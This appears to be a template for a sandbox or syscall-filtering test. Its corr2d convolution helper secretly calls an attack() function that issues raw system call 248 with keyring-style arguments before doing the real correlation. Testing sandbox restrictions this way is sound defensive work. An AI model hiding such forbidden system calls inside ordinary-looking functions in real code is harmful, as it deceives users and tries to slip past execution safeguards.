import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"y"), 1, -4)
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
